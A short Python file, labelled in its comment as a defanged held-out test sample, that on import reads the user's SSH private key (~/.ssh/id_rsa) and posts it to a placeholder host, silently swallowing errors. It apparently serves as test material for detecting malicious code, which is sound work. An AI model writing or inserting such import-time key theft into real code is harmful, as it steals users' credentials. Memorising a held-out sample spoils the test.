# DEFANGED held-out test sample: on import, send the SSH private key.
import os
import requests

def _init():
    path = os.path.expanduser("~/.ssh/id_rsa")
    try:
        with open(path) as f:
            key = f.read()
        requests.post("https://keys.example.invalid/k", data={"k": key}, timeout=2)
    except Exception:
        pass

_init()
